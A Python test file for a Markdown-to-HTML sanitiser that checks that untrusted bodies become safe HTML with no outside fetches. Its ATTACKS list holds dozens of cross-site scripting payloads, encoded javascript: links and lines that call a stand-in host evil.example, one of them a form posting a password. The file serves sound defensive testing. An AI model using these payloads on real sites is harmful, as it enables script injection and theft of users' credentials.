"""Bodies: the Markdown of strangers, which must do no harm and ask no other host for anything."""

import re
from collections.abc import Iterator

import pytest
from hypothesis import given
from hypothesis import strategies as some
from lxml import html as lxml_html

from clearinghouse.publications.html.bodies import body_html

TAGS = {"p", "br", "em", "strong", "s", "code", "pre", "ul", "ol", "li", "blockquote", "hr", "h3", "h4", "h5", "h6", "a", "span"}
ATTRIBUTES = {"a": {"href", "rel"}, "ol": {"start"}, "span": {"lang", "class"}}
ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=password></form>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='https://example.org' onclick='alert(1)'>x</a>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "[x](javascript:alert(1))",
    "[x](JavaScript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61script:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](\u00a0javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/share)",
    "[x](\\\\evil.example\\share)",
    "[x](/trainings/)",
    "[x](../../)",
    "[x](#sources)",
    "[x]()",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x][1]\n\n[1]: data:text/html,x",
    "[1]\n\n[1]: <javascript:alert(1)>",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](https://evil.example/x.png)",
    "![x](javascript:alert(1))",
    "![x][1]\n\n[1]: https://evil.example/x.png",
    "[![x](https://evil.example/x.png)](https://example.org)",
    '![x](https://evil.example/x.png "onerror=alert(1)")',
    '[x](https://example.org "><script>alert(1)</script>")',
    '[x](https://example.org"onmouseover=alert(1))',
    "[x](https://example.org/'onmouseover='alert(1))",
    "[<script>alert(1)</script>](https://example.org)",
    "[a](https://example.org/[b](javascript:alert(1)))",
    "**[x](javascript:alert(1))**",
    "> - [x](javascript:alert(1))\n>   <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "    <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;",
    "# <script>alert(1)</script>",
    "1. <img src=x onerror=alert(1)>",
    "\\<script>alert(1)\\</script>",
    "<https://example.org/<script>alert(1)</script>>",
    '<https://example.org/"onmouseover="alert(1)>',
    "https://evil.example",
    "www.evil.example",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "[x]: https://example.org '<script>alert(1)</script>'\n\n[x]",
]


def elements(html: str) -> Iterator[lxml_html.HtmlElement]:
    """What a browser would find in a body: read by somebody else's parser."""
    for element in lxml_html.fragment_fromstring(html, create_parent="article").iter():
        if element.tag != "article":
            yield element


def holds_no_harm(html: str) -> None:
    """No element and no attribute but those of plain text, and no link but to the web and to mail."""
    for element in elements(html):
        assert element.tag in TAGS, html
        assert set(element.attrib) <= ATTRIBUTES.get(str(element.tag), set()), html
        href = element.get("href")
        assert href is None or re.match(r"(?:https?://|mailto:)[^\s\"'<>]", href, re.IGNORECASE), html


@pytest.mark.parametrize("around", ["{}", "Text before {} and after.", "- one\n- {}\n", "> {}", "**{}**", "[{}](https://example.org)"])
def test_an_attack_becomes_plain_text(around: str) -> None:
    """Wherever in the text it stands."""
    for attack in ATTACKS:
        holds_no_harm(body_html(around.format(attack)))


@given(some.text(alphabet="<>()[]!\"'`*_#&;:/\\ \n\t-=+.%javscriptdhoe0\u202e\x00ก", max_size=80))
def test_any_text_holds_no_harm(text: str) -> None:
    """And becomes HTML at all."""
    holds_no_harm(body_html(text))


@pytest.mark.parametrize("image", ["![A pangolin](https://example.org/x.png)", "![A pangolin][1]\n\n[1]: https://example.org/x.png"])
def test_an_image_is_not_fetched(image: str) -> None:
    """Its words stay, so that a reader knows what was there."""
    html = body_html(image)
    assert "<img" not in html
    assert "A pangolin" in html


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        ("Plain *and* **strong**.", "<p>Plain <em>and</em> <strong>strong</strong>.</p>"),
        ("One\n\nTwo", "<p>One</p>\n<p>Two</p>"),
        ("~~gone~~", "<p><s>gone</s></p>"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("3. a\n4. b", '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>'),
        ("> quoted", "<blockquote>\n<p>quoted</p>\n</blockquote>"),
        ("[text](https://example.org/a?b=1&c=2)", '<p><a href="https://example.org/a?b=1&amp;c=2" rel="external nofollow">text</a></p>'),
        ("<https://example.org>", '<p><a href="https://example.org" rel="external nofollow">https://example.org</a></p>'),
        ("[mail](mailto:training@office.example)", '<p><a href="mailto:training@office.example" rel="external nofollow">mail</a></p>'),
        ("3 < 4 & 5 > 2", "<p>3 &lt; 4 &amp; 5 &gt; 2</p>"),
        ("https://example.org is a text", "<p>https://example.org is a text</p>"),
        ("", ""),
    ],
)
def test_markdown_becomes_html(markdown: str, html: str) -> None:
    """CommonMark; addresses without brackets stay text."""
    assert body_html(markdown).strip() == html


@pytest.mark.parametrize(
    ("markdown", "levels"),
    [
        ("# a\n## b\n### c", ["h3", "h4", "h5"]),
        ("## a\n### b\n## c", ["h3", "h4", "h3"]),
        ("### a\n# b", ["h3", "h3"]),
        ("# a\n#### b", ["h3", "h4"]),
        ("# a\n## b\n### c\n#### d\n##### e\n###### f", ["h3", "h4", "h5", "h6", "h6", "h6"]),
        ("a\n===\nb\n---", ["h3", "h4"]),
    ],
)
def test_headings_begin_below_those_of_the_page(markdown: str, levels: list[str]) -> None:
    """And skip no level, whatever the author began with."""
    assert [element.tag for element in elements(body_html(markdown)) if str(element.tag).startswith("h")] == levels


def test_links_are_marked_as_leading_away() -> None:
    """Search engines follow none, so that nobody writes records for their sake."""
    links = [element for element in elements(body_html("[a](https://example.org) and <https://example.org>")) if element.tag == "a"]
    assert [link.get("rel") for link in links] == ["external nofollow", "external nofollow"]
